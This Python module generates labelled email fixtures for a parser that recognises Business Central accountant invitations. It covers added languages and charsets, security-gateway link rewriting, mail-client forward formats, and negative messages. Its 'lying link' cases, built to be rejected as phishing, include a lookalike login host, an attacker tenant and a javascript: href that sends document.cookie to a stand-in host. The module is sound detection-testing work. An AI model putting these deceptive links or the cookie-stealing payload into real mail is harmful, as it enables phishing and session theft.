"""More shapes for the labelled corpus: languages, link gateways, forward styles, negatives by
kind, lying links and invitations that do not name the company.

Called by ``generate.py`` (``generate(g)`` with that module, whose builders it uses). Sources:

* Languages: Business Central ships base-app translations for cs, is and ru besides the ten
  languages already in the corpus (research notes, section 5); pl, pt and ja come from partner
  translations. The label texts are our own translations, as for the first ten.
* Gateways: the rewriting formats as each vendor documents or shows them in its help pages and
  as decoders in public tools handle them (MailCleaner ``lib/URLRedirects.pm`` for Google's
  redirect, Proofpoint and Roaring Penguin CanIt): Barracuda LinkProtect (``url?a=``), Cisco
  Secure Email (``secure-web.cisco.com/<token>/<url>``), Sophos Time-of-Click (``?d=<domain>&u=
  <base64>``, the domain shown first, as Sophos' help describes it), Trend Micro Email Security
  (``/wis/clicktime/v1/query?url=``), Broadcom/Symantec Email Security.cloud (``clicktime.symantec
  .com/<token>?u=``), Trellix/FireEye (``protect2.fireeye.com/v1/url?...&u=``), Google
  (``google.com/url?q=``), CanIt (``/canit/urlproxy.php?_q=<base64>``), Safe Links in the US
  government cloud (``*.safelinks.protection.office365.us``), Check Point Harmony/Avanan
  (``url.avanan.click/v2/___<url>___.<token>``) and Bing's click-tracking redirect.
* Forward styles: Outlook for Mac (``OLK_SRC_BODY_SECTION``, research notes 8.1), Yahoo Mail and
  Zimbra (``----- Forwarded Message -----``), Proton Mail (``------- Forwarded Message -------``),
  Roundcube (``-------- Original Message --------``), the Android mail apps (``-------- Original
  message --------``) and Outlook mobile (``Get Outlook for iOS`` above an Outlook header block).
"""

from __future__ import annotations

import base64
import html
from dataclasses import replace
from types import ModuleType
from urllib.parse import quote

NEW_LABELS: dict[str, dict[str, str]] = {
    "cs": {
        "subject": "Byli jste pozváni do {p}",
        "greeting": "Dobrý den {n},",
        "body": "Přijměte prosím tuto pozvánku, abyste získali přístup k mému {p}.",
        "closing": "S pozdravem",
        "open": "Otevřete následující odkaz a ověřte, že se můžete přihlásit.",
        "hub": "Chcete-li přidat moji společnost do svého Accountant Hub, klikněte "
        '<a href="{h}">sem</a>.',
        "notusing": 'Nepoužíváte Accountant Hub?  Klikněte <a href="{m}">sem</a> a zjistěte více.',
    },
    "is": {
        "subject": "Þér hefur verið boðið í {p}",
        "greeting": "Halló {n},",
        "body": "Vinsamlegast samþykktu þetta boð til að fá aðgang að {p} mínu.",
        "closing": "Kær kveðja,",
        "open": "Opnaðu eftirfarandi tengil til að staðfesta að þú getir skráð þig inn.",
        "hub": 'Smelltu <a href="{h}">hér</a> til að bæta fyrirtækinu mínu við Accountant Hub.',
        "notusing": 'Notarðu ekki Accountant Hub?  Smelltu <a href="{m}">hér</a> til að fá '
        "frekari upplýsingar.",
    },
    "ru": {
        "subject": "Вас пригласили в {p}",
        "greeting": "Здравствуйте, {n}!",
        "body": "Примите это приглашение, чтобы получить доступ к моему {p}.",
        "closing": "С уважением,",
        "open": "Откройте следующую ссылку, чтобы убедиться, что вы можете войти.",
        "hub": 'Чтобы добавить мою компанию в Accountant Hub, щелкните <a href="{h}">здесь</a>.',
        "notusing": 'Не используете Accountant Hub?  Щелкните <a href="{m}">здесь</a>, чтобы '
        "узнать больше.",
    },
    "pl": {
        "subject": "Zaproszono Cię do {p}",
        "greeting": "Witaj {n},",
        "body": "Zaakceptuj to zaproszenie, aby uzyskać dostęp do mojego {p}.",
        "closing": "Z poważaniem",
        "open": "Otwórz poniższy link, aby sprawdzić, czy możesz się zalogować.",
        "hub": 'Aby dodać moją firmę do Accountant Hub, kliknij <a href="{h}">tutaj</a>.',
        "notusing": 'Nie korzystasz z Accountant Hub?  Kliknij <a href="{m}">tutaj</a>, aby '
        "dowiedzieć się więcej.",
    },
    "pt": {
        "subject": "Foi convidado para {p}",
        "greeting": "Olá {n},",
        "body": "Aceite este convite para obter acesso ao meu {p}.",
        "closing": "Com os melhores cumprimentos,",
        "open": "Abra a seguinte ligação para verificar se consegue iniciar sessão.",
        "hub": 'Para adicionar a minha empresa ao seu Accountant Hub, clique <a href="{h}">aqui'
        "</a>.",
        "notusing": 'Não utiliza o Accountant Hub?  Clique <a href="{m}">aqui</a> para saber mais.',
    },
    "ja": {
        "subject": "{p} に招待されました",
        "greeting": "{n} 様",
        "body": "私の {p} にアクセスするには、この招待を承諾してください。",
        "closing": "よろしくお願いいたします。",
        "open": "次のリンクを開いて、サインインできることを確認してください。",
        "hub": 'Accountant Hub に当社を追加するには、<a href="{h}">ここ</a>'
        "をクリックしてください。",
        "notusing": 'Accountant Hub をご利用でない場合は、<a href="{m}">ここ</a>をクリックして'
        "詳細をご確認ください。",
    },
}
NEW_TAGS = {
    "cs": "cs-CZ",
    "is": "is-IS",
    "ru": "ru-RU",
    "pl": "pl-PL",
    "pt": "pt-PT",
    "ja": "ja-JP",
}


# --- gateways -------------------------------------------------------------------------------


def _tok(g: ModuleType, seed: str, n: int = 22) -> str:
    return g._b64token(seed, n).replace("/", "_").replace("+", "-")


def barracuda(g: ModuleType, url: str) -> str:
    return (
        f"https://linkprotect.cudasvc.com/url?a={quote(url, safe='')}"
        f"&c=E,1,{_tok(g, 'bc|' + url, 60)},&typo=1"
    )


def cisco(g: ModuleType, url: str) -> str:
    return f"https://secure-web.cisco.com/1{_tok(g, 'cs|' + url, 90)}/{quote(url, safe='')}"


def sophos(g: ModuleType, url: str) -> str:
    domain = url.split("//", 1)[1].split("/", 1)[0].split("?", 1)[0]
    encoded = quote(base64.b64encode(url.encode("utf-8")).decode("ascii"), safe="")
    return (
        f"https://eu-central-1.protection.sophos.com?d={domain}&u={encoded}"
        f"&i={_tok(g, 'si|' + url, 32)}&t={_tok(g, 'st|' + url, 40)}"
        f"&h={g._hex('sh|' + url, 32, upper=False)}&s=AVNPUEhUT0NFTkNSWVBUSVYd"
    )


def trendmicro(g: ModuleType, url: str) -> str:
    return (
        "https://imsva91-ctp.trendmicro.com:443/wis/clicktime/v1/query?url="
        f"{quote(url, safe='')}&umid={g._guid('tm|' + url)}"
        f"&auth={g._hex('ta|' + url, 40, upper=False)}-{g._hex('tb|' + url, 40, upper=False)}"
    )


def symantec(g: ModuleType, url: str) -> str:
    return f"https://clicktime.symantec.com/3{_tok(g, 'sy|' + url, 40)}?u={quote(url, safe='')}"


def trellix(g: ModuleType, url: str) -> str:
    return (
        f"https://protect2.fireeye.com/v1/url?k={g._hex('fk|' + url, 8, upper=False)}-"
        f"{g._hex('fl|' + url, 8, upper=False)}&q=1&e={g._guid('fe|' + url)}"
        f"&u={quote(url, safe='')}"
    )


def google(g: ModuleType, url: str) -> str:
    return (
        f"https://www.google.com/url?q={quote(url, safe='')}&sa=D&source=editors"
        f"&ust={1700000000000000 + int(g._hex('gu|' + url, 8), 16)}&usg={_tok(g, 'gg|' + url, 28)}"
    )


def canit(g: ModuleType, url: str) -> str:
    encoded = quote(base64.b64encode(url.encode("utf-8")).decode("ascii"), safe="")
    return (
        f"https://canit.bastion-mail.example/canit/urlproxy.php?_q={encoded}"
        f"&_s={_tok(g, 'cn|' + url, 12)}&_c={g._hex('cc|' + url, 8, upper=False)}&_r=YnJpZ2h0"
    )


def safelinks_gcch(g: ModuleType, url: str) -> str:
    regular = g.safelinks(url, "gcc02")
    return regular.replace(
        ".safelinks.protection.outlook.com", ".safelinks.protection.office365.us"
    )


def avanan(g: ModuleType, url: str) -> str:
    return f"https://url.avanan.click/v2/___{url}___.{_tok(g, 'av|' + url, 80)}"


def bing(g: ModuleType, url: str) -> str:
    encoded = base64.urlsafe_b64encode(url.encode("utf-8")).decode("ascii").rstrip("=")
    return (
        f"https://www.bing.com/ck/a?!&&p={g._hex('bp|' + url, 64, upper=False)}JmltdHM9"
        f"&ptn=3&ver=2&hsh=4&fclid={g._guid('bf|' + url)}&u=a1{encoded}&ntb=1"
    )


GATEWAYS = {
    "barracuda": (barracuda, "Barracuda LinkProtect (url?a=, percent-encoded)"),
    "cisco": (cisco, "Cisco Secure Email (URL percent-encoded in the path)"),
    "sophos": (sophos, "Sophos Time-of-Click (u= base64, padding percent-encoded)"),
    "trendmicro": (trendmicro, "Trend Micro Email Security (clicktime url=, port 443 on the host)"),
    "symantec": (symantec, "Broadcom/Symantec Email Security.cloud (clicktime u=)"),
    "trellix": (trellix, "Trellix/FireEye protect2 (u= after k, q, e)"),
    "google": (google, "Google redirect (url?q=)"),
    "canit": (canit, "Roaring Penguin CanIt urlproxy (_q= base64)"),
    "safelinks-gcch": (safelinks_gcch, "Safe Links, US government cloud (office365.us)"),
    "avanan": (avanan, "Check Point Harmony/Avanan (URL written out between ___)"),
    "bing": (bing, "Bing click tracking (u=a1 + base64url)"),
}


# --- builders ---------------------------------------------------------------------------------


def _people(g: ModuleType) -> dict[str, tuple[object, object]]:
    """Accountant and client administrator for each new language."""
    P = g.Person
    return {
        "cs": (
            P("Jana", "Jana Nováková", "jana.novakova@ucetni-novakova.example"),
            P("Tomáš", "Tomáš Dvořák", "tomas.dvorak@pivovar-dvorak.example"),
        ),
        "is": (
            P("Sigríður", "Sigríður Jónsdóttir", "sigga@bokhald-jons.example"),
            P("Gunnar", "Gunnar Þórsson", "gunnar@fiskvinnsla-thors.example"),
        ),
        "ru": (
            P("Ольга", "Ольга Смирнова", "o.smirnova@buhuchet-smirnova.example"),
            P("Дмитрий", "Дмитрий Волков", "d.volkov@volkov-stroy.example"),
        ),
        "pl": (
            P("Agnieszka", "Agnieszka Wiśniewska", "a.wisniewska@biuro-wisniewska.example"),
            P("Paweł", "Paweł Zieliński", "pawel.zielinski@zielinski-meble.example"),
        ),
        "pt": (
            P("Inês", "Inês Carvalho", "ines.carvalho@contabilidade-carvalho.example"),
            P("João", "João Ferreira", "joao.ferreira@vinhos-ferreira.example"),
        ),
        "ja": (
            P("花子", "佐藤 花子", "hanako.sato@sato-kaikei.example"),
            P("健一", "田中 健一", "k.tanaka@tanaka-seisakusho.example"),
        ),
    }


COMPANIES = {
    "cs": ("pivovardvorak.onmicrosoft.com", "Pivovar Dvořák s.r.o.", "Pivovar Dvořák a synové"),
    "is": ("fiskthors.onmicrosoft.com", "Fiskvinnsla Þórs ehf.", "Fiskvinnsla Þórs"),
    "ru": ("volkovstroy.onmicrosoft.com", 'ООО "Волков Строй"', "Волков Строй"),
    "pl": ("zielinskimeble.onmicrosoft.com", "Zieliński Meble Sp. z o.o.", "Meble Zieliński"),
    "pt": ("vinhosferreira.onmicrosoft.com", "Vinhos Ferreira, Lda.", "Vinhos Ferreira & Filhos"),
    "ja": ("tanakaseisakusho.onmicrosoft.com", "株式会社田中製作所", "田中製作所"),
}
#: (charset, transfer encoding) for the current-era and the hub-era email of each language.
CHARSETS = {
    "cs": (("iso-8859-2", "quoted-printable"), ("utf-8", "base64")),
    "is": (("iso-8859-1", "8bit"), ("utf-8", "quoted-printable")),
    "ru": (("koi8-r", "base64"), ("windows-1251", "quoted-printable")),
    "pl": (("iso-8859-2", "base64"), ("utf-8", "8bit")),
    "pt": (("windows-1252", "quoted-printable"), ("iso-8859-1", "base64")),
    "ja": (("iso-2022-jp", "7bit"), ("shift_jis", "base64")),
}


def gen_languages(g: ModuleType) -> None:
    for lang, (accountant, admin) in _people(g).items():
        tenant, company, hub_name = COMPANIES[lang]
        (cs1, cte1), (cs2, cte2) = CHARSETS[lang]
        user = admin.addr.split("@")[0].upper()
        cur = g.Invite(lang, tenant, company, user, admin, accountant, g.when(2024, 9, 2, 8, 30))
        mid = g.exo_msgid(f"lang-{lang}-current")
        g.add(
            f"current-{lang}-{cs1.replace('_', '-')}",
            "current",
            lang,
            "invitation",
            g.original(cur, mid, charset=cs1, cte=cte1, mime="alternative"),
            mid,
            f"current era, {lang} labels, {cs1} {cte1}, multipart/alternative",
            cur,
        )
        hub = replace(cur, hub_name=hub_name, date=g.when(2019, 3, 4, 10, 0, 0, 1))
        mid = g.smtp_msgid(f"lang-{lang}-hub", "mail." + admin.addr.split("@")[1])
        g.add(
            f"hub-{lang}-{cs2.replace('_', '-')}",
            "hub",
            lang,
            "invitation",
            g.original(hub, mid, style="smtp", charset=cs2, cte=cte2),
            mid,
            f"Accountant Hub era, {lang} labels, {cs2} {cte2}, SMTP setup",
            hub,
        )


def gen_gateways(g: ModuleType) -> None:
    hub = g.Invite(
        "en",
        "larkspur.onmicrosoft.com",
        "Larkspur Ceramics",
        "NINA",
        g.Person("Nina", "Nina Hart", "nina.hart@larkspur-ceramics.example"),
        g.ANNA,
        g.when(2019, 9, 9, 9, 0, 0, 1),
        hub_name="Larkspur Ceramics Ltd",
    )
    for name, (wrap, what) in GATEWAYS.items():
        mid = g.smtp_msgid(f"gw-{name}", "mail.larkspur-ceramics.example")
        inv = replace(hub, tenant=f"larkspur{len(name)}.onmicrosoft.com")
        g.add(
            f"wrapper-{name}-hub",
            "wrapper",
            "en",
            "invitation",
            g.original(inv, mid, style="smtp", href_wrap=lambda u, w=wrap: w(g, u)),
            mid,
            f"{what}: the hub and marketing hrefs rewritten; link 1 is plain text",
            inv,
        )
    # Forwards whose link 1 was autolinked, then rewritten by the recipient's gateway (href
    # and the text part), some behind a second gateway.
    cur = g.Invite(
        "en",
        "quillon.onmicrosoft.com",
        "Quillon Freight BV",
        "RUTGER",
        g.Person("Rutger", "Rutger Bos", "rutger.bos@quillon-freight.example"),
        g.Person("Rachel", "Rachel Kim", "rachel.kim@brightledger.example"),
        g.when(2024, 5, 6, 8, 0),
    )
    chains = {
        "barracuda-of-safelinks": lambda u: barracuda(g, g.safelinks(u, "eur04")),
        "cisco-of-proofpoint-v3": lambda u: cisco(g, g.proofpoint_v3(u)),
        "sophos": lambda u: sophos(g, u),
        "trendmicro-of-google": lambda u: trendmicro(g, google(g, u)),
        "symantec": lambda u: symantec(g, u),
    }
    for name, chain in chains.items():
        inv = replace(cur, tenant=f"quillon-{name.split('-')[0]}.onmicrosoft.com")
        fwd = g.Fwd(
            inv.to,
            g.ANNA,
            g.when(2024, 5, 6, 9, 15, 0),
            "Anna, new client below.",
            "FW:",
            sent_text="Monday, May 6, 2024 10:00 AM",
        )
        body_html = g.render_html_lines(inv.lines(), autolink=True, wrap=chain)
        body_text = g.render_text_lines(inv.lines(), wrap=chain)
        mid = g.exo_msgid(f"gw-fwd-{name}")
        raw, _ = g.outlook_desktop_forward(
            inv.subject_line,
            inv.sender.header().replace('"', ""),
            inv.to.header(),
            body_html,
            body_text,
            fwd,
            mid,
            "en",
        )
        g.add(
            f"wrapper-{name}-outlook-forward",
            "wrapper",
            "en",
            "invitation",
            raw,
            mid,
            f"Outlook forward, link 1 autolinked and rewritten ({name}) in href and text part",
            inv,
        )


def _header_rows(rows: list[tuple[str, str]], bold: bool = True) -> str:
    esc = html.escape
    tag = ("<b>", "</b>") if bold else ("", "")
    return "<br>\n".join(f"{tag[0]}{esc(k)}{tag[1]} {esc(v)}" for k, v in rows)


def _simple_forward(
    g: ModuleType,
    inv: object,
    msgid: str,
    *,
    separator: str,
    rows: list[tuple[str, str]],
    note: str,
    html_wrapper: tuple[str, str],
    mailer: tuple[str, str] | None,
    prefix: str = "Fwd:",
    footer: str = "",
    sender: object | None = None,
) -> bytes:
    """A forward whose header block is a separator line plus ``Label: value`` rows, in HTML
    (``html_wrapper`` around it) and in the text part."""
    esc = html.escape
    body_html = g.render_html_lines(inv.lines(), autolink=True)
    body_text = g.render_text_lines(inv.lines(), style="apple")
    start, end = html_wrapper
    doc = (
        '<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>'
        f"<body><div>{esc(note)}</div>{footer and '<div>' + esc(footer) + '</div>'}<br>"
        f"{start}<div>{esc(separator)}</div><div>{_header_rows(rows)}</div><br>"
        f"<div>{body_html}</div>{end}</body></html>\n"
    )
    text = [note, *([footer] if footer else []), "", separator]
    text += [f"{k} {v}" for k, v in rows] + ["", *body_text]
    text_part = g.leaf("plain", "\n".join(text) + "\n", cte="quoted-printable")
    html_part = g.leaf("html", doc, cte="quoted-printable")
    root = g.multipart("alternative", [text_part, html_part], g._boundary(msgid, "alt"))
    who = sender or g.ANNA
    subject = f"{prefix} {inv.subject_line}"
    top = g.simple_top(who.header(), g.ANNA.header(), subject, inv.date, msgid)
    if mailer:
        top.append(mailer)
    return g.message(top, root)


def gen_forward_styles(g: ModuleType) -> None:
    colleague = g.Person("Rachel", "Rachel Kim", "rachel.kim@brightledger.example")
    base = g.Invite(
        "en",
        "marlowe.onmicrosoft.com",
        "Marlowe Garden Centre",
        "ELLIS",
        g.Person("Ellis", "Ellis Marlowe", "ellis@marlowe-garden.example"),
        colleague,
        g.when(2024, 6, 3, 8, 0),
    )
    orig = g._display(base.sender.header())
    to = g._display(colleague.header())
    date = "Monday, June 3, 2024, 09:00 AM GMT+1"
    styles = {
        "yahoo": dict(
            separator="----- Forwarded Message -----",
            rows=[("From:", orig), ("To:", to), ("Sent:", date), ("Subject:", base.subject_line)],
            html_wrapper=('<div class="yahoo_quoted" id="yahoo_quoted_1">', "</div>"),
            mailer=("X-Mailer", "WebService/1.1.22256 YMailNorrin"),
            footer="Sent from Yahoo Mail for iPhone",
        ),
        "protonmail": dict(
            separator="------- Forwarded Message -------",
            rows=[
                ("From:", orig),
                ("Date:", "On Monday, June 3rd, 2024 at 09:00"),
                ("Subject:", base.subject_line),
                ("To:", to),
            ],
            html_wrapper=('<div class="protonmail_quote">', "</div>"),
            mailer=None,
        ),
        "zimbra": dict(
            separator="----- Forwarded Message -----",
            rows=[("From:", orig), ("To:", to), ("Sent:", date), ("Subject:", base.subject_line)],
            html_wrapper=('<div data-marker="__QUOTED_TEXT__">', "</div>"),
            mailer=("X-Mailer", "Zimbra 10.0.6_GA_4598 (ZimbraWebClient - FF126 (Linux)/10.0.6)"),
        ),
        "roundcube": dict(
            separator="-------- Original Message --------",
            rows=[
                ("Subject:", base.subject_line),
                ("Date:", "2024-06-03 09:00"),
                ("From:", orig),
                ("To:", to),
            ],
            html_wrapper=('<div id="forward_body">', "</div>"),
            mailer=("User-Agent", "Roundcube Webmail/1.6.7"),
        ),
        "android": dict(
            separator="-------- Original message --------",
            rows=[
                ("From:", orig),
                ("Date:", "03/06/2024 09:00 (GMT+01:00)"),
                ("To:", to),
                ("Subject:", base.subject_line),
            ],
            html_wrapper=("<div>", "</div>"),
            mailer=None,
            footer="Sent from my Galaxy",
        ),
        "outlook-mobile": dict(
            separator="________________________________",
            rows=[("From:", orig), ("Sent:", date), ("To:", to), ("Subject:", base.subject_line)],
            html_wrapper=('<div id="divRplyFwdMsg" dir="ltr">', "</div>"),
            mailer=None,
            footer="Get Outlook for iOS",
            prefix="Fw:",
        ),
    }
    for i, (name, style) in enumerate(styles.items()):
        inv = replace(base, tenant=f"marlowe{i}.onmicrosoft.com")
        mid = g.smtp_msgid(f"fwd-style-{name}", "brightledger.example")
        raw = _simple_forward(
            g, inv, mid, note="Please add this client.", sender=colleague, **style
        )
        g.add(
            f"forward-{name}-en",
            "forward-inline",
            "en",
            "invitation",
            raw,
            mid,
            f"{name} inline forward: {style['separator']}",
            inv,
        )
    gen_outlook_mac(g, replace(base, tenant="marlowe-mac.onmicrosoft.com"), colleague)


def gen_outlook_mac(g: ModuleType, inv: object, colleague: object) -> None:
    """Outlook for Mac: the original in ``OLK_SRC_BODY_SECTION`` under a bold header block."""
    esc = html.escape
    rows = [
        ("From: ", g._display(inv.sender.header())),
        ("Date: ", "Monday, 3 June 2024 at 09:00"),
        ("To: ", g._display(colleague.header())),
        ("Subject: ", inv.subject_line),
    ]
    head = "".join(
        f'<b><span style="font-size:12.0pt;color:black">{esc(k)}</span></b>'
        f'<span style="font-size:12.0pt;color:black">{esc(v)}<br></span>'
        for k, v in rows
    )
    doc = (
        '<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>'
        '<body lang="EN-GB"><div class="WordSection1"><p class="MsoNormal">FYI, new client.</p>'
        '<div id="mail-editor-reference-message-container"><div class="ms-outlook-mobile-'
        'reference-message"><div style="border:none;border-top:solid #B5C4DF 1.0pt;padding:3.0pt'
        f' 0cm 0cm 0cm"><p class="MsoNormal" style="margin-bottom:12.0pt">{head}</p></div>'
        f'<div id="OLK_SRC_BODY_SECTION">{g.render_html_lines(inv.lines(), autolink=True)}'
        "</div></div></div></div></body></html>\n"
    )
    text = ["FYI, new client.", "", *(f"{k}{v}" for k, v in rows), ""]
    text += g.render_text_lines(inv.lines())
    mid = g.exo_msgid("fwd-outlook-mac")
    root = g.multipart(
        "alternative",
        [g.leaf("plain", "\n".join(text) + "\n"), g.leaf("html", doc)],
        g._boundary(mid, "alt"),
    )
    top = g.exo_top(
        colleague.header(),
        g.ANNA.header(),
        f"FW: {inv.subject_line}",
        inv.date,
        mid,
        "en-GB",
        extra=[("User-Agent", "Microsoft-MacOutlook/16.85.24051214")],
    )
    g.add(
        "forward-outlook-mac-en",
        "forward-inline",
        "en",
        "invitation",
        g.message(top, root),
        mid,
        "Outlook for Mac inline forward (OLK_SRC_BODY_SECTION, bold header rows)",
        inv,
    )


def gen_negatives(g: ModuleType) -> None:
    inv = g.Invite(
        "en",
        "brackenridge.onmicrosoft.com",
        "Brackenridge Dairy",
        "FIONA",
        g.Person("Fiona", "Fiona Reid", "fiona.reid@brackenridge-dairy.example"),
        g.ANNA,
        g.when(2024, 2, 5, 8, 0),
    )
    quoted = g.render_html_lines(inv.lines(), autolink=True)
    text = "\n".join(g.render_text_lines(inv.lines()))

    # A mailing-list digest that quotes an invitation someone posted.
    mid = g.smtp_msgid("neg-list-digest", "lists.accountants-forum.example")
    doc = (
        "<html><body><p>Accountants Forum Digest, Vol 12, Issue 4</p><p>Today's Topics:</p>"
        "<ol><li>Re: Invite External Accountant not arriving (Mark)</li></ol><hr>"
        f"<p>Message: 1<br>From: Mark &lt;mark@ledger-lane.example&gt;</p><p>Here is what mine "
        f"looked like:</p><blockquote>{quoted}</blockquote></body></html>\n"
    )
    top = g.simple_top(
        "accountants-forum-request@lists.accountants-forum.example",
        g.ANNA.header(),
        "Accountants-Forum Digest, Vol 12, Issue 4",
        g.when(2024, 2, 6, 6, 0),
        mid,
        extra=[
            ("List-Id", "Accountants Forum <accountants-forum.lists.accountants-forum.example>"),
            ("Precedence", "list"),
        ],
    )
    g.add(
        "negative-list-digest-quoting-invitation",
        "negative",
        "en",
        "not_invitation",
        g.message(top, g.leaf("html", doc)),
        mid,
        "mailing-list digest (List-Id) quoting an invitation",
        None,
    )

    # A read receipt (message/disposition-notification) for an invitation.
    mid = g.exo_msgid("neg-mdn")
    human = g.leaf("plain", "Your message\n\n  Subject: " + inv.subject_line + "\n\nwas read.\n")
    mdn = g.leaf(
        "disposition-notification",
        "Reporting-UA: outlook.example\nFinal-Recipient: rfc822;anna.berg@brightledger.example\n"
        "Disposition: automatic-action/MDN-sent-automatically; displayed\n",
        charset=None,
        cte="7bit",
        main="message",
    )
    headers = g.leaf(
        "rfc822-headers",
        f"Subject: {inv.subject_line}\nFrom: x@y.example\n",
        charset=None,
        cte="7bit",
        main="text",
    )
    root = g.multipart(
        "report",
        [human, mdn, headers],
        g._boundary(mid, "mdn"),
        params="; report-type=disposition-notification",
    )
    top = g.exo_top(
        g.ANNA.header(),
        inv.sender.header(),
        "Read: " + inv.subject_line,
        g.when(2024, 2, 5, 9, 0),
        mid,
    )
    g.add(
        "negative-read-receipt",
        "negative",
        "en",
        "not_invitation",
        g.message(top, root),
        mid,
        "read receipt (multipart/report, disposition-notification) for an invitation",
        None,
    )

    # A meeting request about setting up the client, with the link pasted in its description.
    mid = g.exo_msgid("neg-calendar")
    ics = (
        "BEGIN:VCALENDAR\nMETHOD:REQUEST\nPRODID:Microsoft Exchange Server 2010\nVERSION:2.0\n"
        "BEGIN:VEVENT\nUID:040000008200E00074C5B7101A82E0080000000\nSUMMARY:Business Central "
        f"onboarding\nDESCRIPTION:Link: {inv.access_link}\nDTSTART:20240207T090000Z\n"
        "DTEND:20240207T093000Z\nEND:VEVENT\nEND:VCALENDAR\n"
    )
    body = g.leaf("plain", "Let's open the invitation together:\n" + text + "\n")
    cal = g.leaf("calendar", ics, ctype_params="; method=REQUEST")
    root = g.multipart("alternative", [body, cal], g._boundary(mid, "cal"))
    top = g.exo_top(
        inv.sender.header(),
        g.ANNA.header(),
        "Business Central onboarding",
        g.when(2024, 2, 5, 10, 0),
        mid,
    )
    g.add(
        "negative-meeting-request-with-link",
        "negative",
        "en",
        "not_invitation",
        g.message(top, root),
        mid,
        "meeting request (text/calendar) carrying link 1",
        None,
    )

    # A recall message for an invitation.
    mid = g.exo_msgid("neg-recall")
    body = g.leaf("plain", f'Fiona Reid would like to recall the message, "{inv.subject_line}".\n')
    top = g.exo_top(
        inv.sender.header(),
        g.ANNA.header(),
        "Recall: " + inv.subject_line,
        g.when(2024, 2, 5, 8, 5),
        mid,
    )
    g.add(
        "negative-recall",
        "negative",
        "en",
        "not_invitation",
        g.message(top, body),
        mid,
        "Outlook recall message for an invitation",
        None,
    )


def gen_lies_and_names(g: ModuleType) -> None:
    inv = g.Invite(
        "en",
        "thornbury.onmicrosoft.com",
        "Thornbury Cycles",
        "OWEN",
        g.Person("Owen", "Owen Price", "owen.price@thornbury-cycles.example"),
        g.ANNA,
        g.when(2024, 4, 1, 8, 0),
    )
    link1 = inv.access_link
    for name, href, note in (
        (
            "evil-host",
            "https://businesscentral-dynamics.com.login-verify.example/thornbury",
            "link text shows link 1, the href leads to another host",
        ),
        (
            "javascript",
            "javascript:location='https://login-verify.example/'+document.cookie",
            "link text shows link 1, the href is javascript:",
        ),
        (
            "other-tenant",
            "https://businesscentral.dynamics.com/attacker.onmicrosoft.com?redirectedfromsignup=1",
            "link text shows link 1, the href names another tenant",
        ),
    ):
        lie = f'<a href="{html.escape(href)}">{html.escape(link1)}</a>'
        frag = inv.fragment().replace(link1, lie)
        mid = g.exo_msgid(f"lie-{name}")
        top = g.exo_top(inv.sender.header(), g.ANNA.header(), inv.subject_line, inv.date, mid)
        g.add(
            f"lookalike-lying-link-{name}",
            "lookalike",
            "en",
            "rejected",
            g.message(top, g.leaf("html", frag)),
            mid,
            note,
            None,
            reason_contains=["phishing", "tenant"],
        )

    # The administrator deleted the company line: the welcome text ends with a person.
    for name, tail in (
        ("first-name", "Owen"),
        ("user-address", "owen.price@thornbury-cycles.example"),
    ):
        welcome = f"Hi Anna,\n\nPlease accept this invitation.\n\nThanks,\n{tail}"
        nameless = replace(inv, welcome=welcome, tenant=f"thornbury-{name}.onmicrosoft.com")
        mid = g.exo_msgid(f"nameless-{name}")
        g.add(
            f"current-en-no-company-{name}",
            "current",
            "en",
            "invitation",
            g.original(nameless, mid),
            mid,
            f"welcome text edited, ends with the {name.replace('-', ' ')}: no company name",
            nameless,
            company_name=None,
        )


def generate(g: ModuleType) -> None:
    g.LABELS.update(NEW_LABELS)
    g.EXTRA_LANG_TAGS.update(NEW_TAGS)
    gen_languages(g)
    gen_gateways(g)
    gen_forward_styles(g)
    gen_negatives(g)
    gen_lies_and_names(g)
